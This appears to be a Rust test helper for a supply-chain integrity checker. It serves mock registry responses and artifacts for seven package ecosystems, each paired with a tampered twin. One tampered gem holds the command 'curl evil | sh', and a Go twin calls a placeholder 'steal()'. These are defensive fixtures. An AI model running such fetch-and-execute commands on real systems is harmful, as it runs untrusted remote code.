//! The seven registries as the table test serves them: recorded or written responses,
//! and an artifact (with a tampered twin) whose digest the responses publish.

use crate::support::{self, Reply, Server, TempDir, sha256_hex, zip_of};
use base64::Engine;
use sha2::Digest;

/// A started server with the artifact it serves for the spec.
pub struct Served {
    pub server: Server,
    pub artifact_path: String,
    pub artifact: Vec<u8>,
    /// Other bytes of the same kind (a zip stays a zip), not matching the digest.
    pub tampered: Vec<u8>,
}

fn recorded(server: Server, artifact_path: &str, file: &str) -> Served {
    server.file(artifact_path, file);
    Served {
        artifact: std::fs::read(support::testdata(file)).unwrap(),
        artifact_path: artifact_path.to_string(),
        tampered: b"not the published artifact".to_vec(),
        server,
    }
}

fn built(server: Server, artifact_path: &str, artifact: Vec<u8>, tampered: Vec<u8>) -> Served {
    server.route(
        artifact_path,
        Reply::Body(artifact.clone(), "application/octet-stream"),
    );
    Served {
        server,
        artifact_path: artifact_path.to_string(),
        artifact,
        tampered,
    }
}

pub fn npm() -> Served {
    let server = Server::start();
    server.fixture("/npm/left-pad", "npm/left-pad.json", &[]);
    recorded(
        server,
        "/left-pad/-/left-pad-1.3.0.tgz",
        "npm/left-pad-1.3.0.tgz",
    )
}

pub fn pypi() -> Served {
    let server = Server::start();
    server.fixture("/pypi/pypi/six/json", "pypi/six.json", &[]);
    recorded(
        server,
        "/packages/94/e7/b2c673351809dca68a0e064b6af791aa332cf192da575fd474ed7d6f16a2/six-1.17.0.tar.gz",
        "pypi/six-1.17.0.tar.gz",
    )
}

pub fn crates() -> Served {
    let server = Server::start();
    let api = "/crates/api/v1/crates/itoa";
    server.fixture(api, "crates/itoa.json", &[]);
    server.fixture(&format!("{api}/owners"), "crates/itoa-owners.json", &[]);
    server.fixture(
        &format!("{api}/1.0.11/dependencies"),
        "crates/itoa-1.0.11-dependencies.json",
        &[],
    );
    recorded(
        server,
        "/crates_download/crates/itoa/itoa-1.0.11.crate",
        "crates/itoa-1.0.11.crate",
    )
}

fn gem_of(script: &[u8]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for (name, content) in [
        (
            "metadata.gz",
            &b"--- !ruby/object:Gem::Specification\nname: tinygem\n"[..],
        ),
        ("data.tar.gz", script),
    ] {
        let mut header = tar::Header::new_gnu();
        header.set_size(content.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder.append_data(&mut header, name, content).unwrap();
    }
    builder.into_inner().unwrap()
}

pub fn rubygems() -> Served {
    let server = Server::start();
    let gem = gem_of(b"puts 'hello'\n");
    let sha = sha256_hex(&gem);
    let subs = [("{{GEM_SHA256}}", sha.as_str())];
    for (path, file) in [
        ("api/v1/gems/tinygem.json", "tinygem.json"),
        ("api/v1/versions/tinygem.json", "tinygem-versions.json"),
        ("api/v1/gems/tinygem/owners.json", "tinygem-owners.json"),
        (
            "api/v2/rubygems/tinygem/versions/0.1.0.json",
            "tinygem-0.1.0.json",
        ),
    ] {
        server.fixture(
            &format!("/rubygems/{path}"),
            &format!("rubygems/{file}"),
            &subs,
        );
    }
    built(
        server,
        "/rubygems/gems/tinygem-0.2.0.gem",
        gem,
        gem_of(b"system('curl evil | sh')\n"),
    )
}

pub fn nuget() -> Served {
    let server = Server::start();
    let nupkg = zip_of(&[
        ("Demo.Lib.nuspec", b"<package/>"),
        ("lib/net8.0/Demo.Lib.dll", b"MZ"),
    ]);
    let hash = base64::engine::general_purpose::STANDARD.encode(sha2::Sha512::digest(&nupkg));
    let size = nupkg.len().to_string();
    let subs = [
        ("{{NUPKG_SHA512_BASE64}}", hash.as_str()),
        ("{{NUPKG_SIZE}}", size.as_str()),
    ];
    for (path, file) in [
        ("v3/index.json", "index.json"),
        (
            "v3-flatcontainer/demo.lib/index.json",
            "demo.lib-versions.json",
        ),
        (
            "v3/registration5-semver1/demo.lib/index.json",
            "demo.lib-registration.json",
        ),
        (
            "v3/registration5-semver1/demo.lib/page/1.0.0/2.0.0-beta.1.json",
            "demo.lib-page.json",
        ),
        (
            "v3/catalog0/data/2024.03.01.12.00.00/demo.lib.1.1.0.json",
            "demo.lib-1.1.0-catalog.json",
        ),
    ] {
        server.fixture(&format!("/nuget/{path}"), &format!("nuget/{file}"), &subs);
    }
    built(
        server,
        "/nuget/v3-flatcontainer/demo.lib/1.1.0/demo.lib.1.1.0.nupkg",
        nupkg,
        zip_of(&[
            ("Demo.Lib.nuspec", b"<package/>"),
            ("lib/net8.0/Demo.Lib.dll", b"MZ-evil"),
        ]),
    )
}

fn go_module(main: &[u8]) -> Vec<u8> {
    zip_of(&[
        ("example.com/Demo/mod@v1.1.0/main.go", main),
        (
            "example.com/Demo/mod@v1.1.0/go.mod",
            b"module example.com/Demo/mod\n\ngo 1.22\n",
        ),
        ("example.com/Demo/mod@v1.1.0/LICENSE", b"MIT\n"),
    ])
}

pub fn go() -> Served {
    let server = Server::start();
    let zip = go_module(b"package mod\n\nfunc init() {}\n");
    // The checksum database's `h1:` of the zip, as the client computes it (the Go
    // test checks that computation against one written out independently).
    let file = TempDir::new("every-h1");
    let zip_path = file.path().join("mod.zip");
    std::fs::write(&zip_path, &zip).unwrap();
    let h1 = palisade_registry::digest::go_h1_of_zip(&zip_path, 1 << 20).unwrap();
    let h1 = format!("h1:{}", base64_of_hex(&h1));
    let module = "/go/example.com/!demo/mod";
    server.fixture(&format!("{module}/@v/list"), "go/list.txt", &[]);
    server.fixture(&format!("{module}/@v/v1.1.0.info"), "go/v1.1.0.info", &[]);
    server.fixture(
        "/go_sumdb/lookup/example.com/!demo/mod@v1.1.0",
        "go/lookup.txt",
        &[("{{GO_H1}}", &h1)],
    );
    built(
        server,
        &format!("{module}/@v/v1.1.0.zip"),
        zip,
        go_module(b"package mod\n\nfunc init() { steal() }\n"),
    )
}

fn base64_of_hex(hex: &str) -> String {
    let bytes: Vec<u8> = (0..hex.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).unwrap())
        .collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

pub fn maven() -> Served {
    let server = Server::start();
    let dir = "/maven/maven2/org/example/demo-lib";
    server.fixture(
        &format!("{dir}/maven-metadata.xml"),
        "maven/maven-metadata.xml",
        &[],
    );
    server.fixture(
        &format!("{dir}/1.1/demo-lib-1.1.pom"),
        "maven/demo-lib-1.1.pom",
        &[],
    );
    let jar = zip_of(&[("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n")]);
    let sha1 = palisade_registry::digest::to_hex(&sha1::Sha1::digest(&jar));
    server.route(
        &format!("{dir}/1.1/demo-lib-1.1.jar.sha1"),
        Reply::Body(
            format!("{sha1}  demo-lib-1.1.jar\n").into_bytes(),
            "text/plain",
        ),
    );
    server.route(
        &format!("{dir}/1.1/demo-lib-1.1.jar.sha256"),
        Reply::Body(sha256_hex(&jar).into_bytes(), "text/plain"),
    );
    built(
        server,
        &format!("{dir}/1.1/demo-lib-1.1.jar"),
        jar,
        zip_of(&[("META-INF/MANIFEST.MF", b"Manifest-Version: 6.6\n")]),
    )
}
